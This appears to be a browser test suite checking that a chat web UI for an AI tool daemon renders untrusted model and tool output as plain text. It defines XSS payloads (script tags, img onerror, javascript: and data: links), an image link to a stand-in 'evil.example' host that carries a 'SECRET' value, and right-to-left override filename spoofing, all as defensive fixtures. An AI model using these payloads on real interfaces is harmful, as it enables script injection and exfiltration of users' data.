// Output of a model, a target or a schema is text to the UI: it runs nothing, loads nothing, leads nowhere by itself.
import { expect } from "chai";
import { json, type RecordingTarget, startTarget } from "../support/target.js";
import { sendPrompt, useBrowser, waitUntilIdle } from "./browser.js";

const ATTACK = "<img src=x onerror=\"document.title='pwned'\"><script>document.title='pwned'</script>";
const LINKS = [
  "[run](javascript:document.title='pwned')",
  "[data](data:text/html,<script>1</script>)",
  "[relative](/-/sessions)",
  "[slashes](//evil.example/x)",
  "![pixel](https://evil.example/?d=SECRET)",
  "![local](/tools)",
  "<https://example.com/fine>",
  "<javascript:alert(1)>",
  ATTACK,
].join("\n\n");

describe("the web UI: untrusted text", () => {
  const browser = useBrowser();
  let target: RecordingTarget;
  beforeEach(async () => {
    target = await startTarget(() => json([{ id: 1, name: ATTACK, [ATTACK]: "key" }]));
  });
  afterEach(() => target.close());

  const open = async () => {
    const turns = [
      { prompt: "list", replies: [{ calls: [{ name: "list_pets" }] }, { text: LINKS }] },
      {
        prompt: "turned",
        replies: [{ text: "open \u202egnp.exe, and \u0646\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645" }],
      },
      { prompt: "forge", replies: [{ calls: [{ name: ATTACK, arguments: { [ATTACK]: ATTACK } }] }, { text: ATTACK }] },
    ];
    const daemon = await browser.daemon({ target: target.url, turns });
    return { daemon, ...(await browser.open(daemon)) };
  };

  it("displays prompts, titles and answers in the order they have, and the joiners of a language as they are @all", async () => {
    const { page } = await open();
    await sendPrompt(page, "turned \u202egnp.exe");
    await waitUntilIdle(page);
    expect(await page.locator(".prompt").textContent()).to.equal("turned \\u{202e}gnp.exe");
    expect((await page.locator(".answer").textContent()) ?? "").to.contain("open \\u{202e}gnp.exe, and نمی‌خواهم");
    await page.getByRole("navigation", { name: "Sessions" }).getByText("turned \\u{202e}gnp.exe").waitFor();
    expect(await page.title()).to.contain("turned \\u{202e}gnp.exe");
  });

  it("O1 displays markup in results, names, prompts and session titles as text", async () => {
    const { page } = await open();
    await sendPrompt(page, `list ${ATTACK}`);
    await waitUntilIdle(page);
    await page.getByRole("group", { name: "Tool call list_pets" }).locator(".call-head").click();
    await page.getByRole("cell", { name: ATTACK }).waitFor();
    await sendPrompt(page, "forge a name");
    await waitUntilIdle(page);
    await page.getByRole("link", { name: "History" }).click();
    await page.locator(".row-head").first().click();
    await page
      .getByRole("navigation", { name: "Sessions" })
      .getByText(/<img src=x onerror=/)
      .waitFor();
    expect(await page.locator("img, main script, iframe, object, embed, form[action]").count()).to.equal(0);
    expect(await page.title()).to.not.contain("pwned");
  });

  it("O2 loads no image and follows no link that is not http, https or mailto", async () => {
    const { page, requests } = await open();
    await sendPrompt(page, "list");
    await waitUntilIdle(page);
    const answer = page.locator(".answer").last();
    const hrefs = await answer
      .locator("a")
      .evaluateAll((links) => links.map((one) => String(one.getAttribute("href"))));
    expect(hrefs).to.deep.equal(["https://evil.example/?d=SECRET", "https://example.com/fine"]);
    expect(await answer.textContent())
      .to.contain("[image: pixel]")
      .and.contain("run")
      .and.contain("relative");
    await answer.getByText("run", { exact: true }).click();
    expect(await page.title()).to.not.contain("pwned");
    expect(requests.filter((url) => url.includes("evil") || url.startsWith("data:text"))).to.deep.equal([]);
  });

  it("keeps inside the content policy and on its own host, through every view", async () => {
    const { page, requests, consoleErrors, daemon } = await open();
    await sendPrompt(page, "list");
    await waitUntilIdle(page);
    for (const name of ["Tools", "History"]) await page.getByRole("link", { name }).click();
    await page.getByRole("button", { name: /^Colours/ }).click();
    expect(consoleErrors).to.deep.equal([]);
    expect(new Set(requests.map((url) => new URL(url).host))).to.deep.equal(new Set([new URL(daemon.url).host]));
    expect(requests.length).to.be.greaterThan(5);
    expect(await page.locator("[style]:not(textarea, .history, .row)").count()).to.equal(0);
  });
});
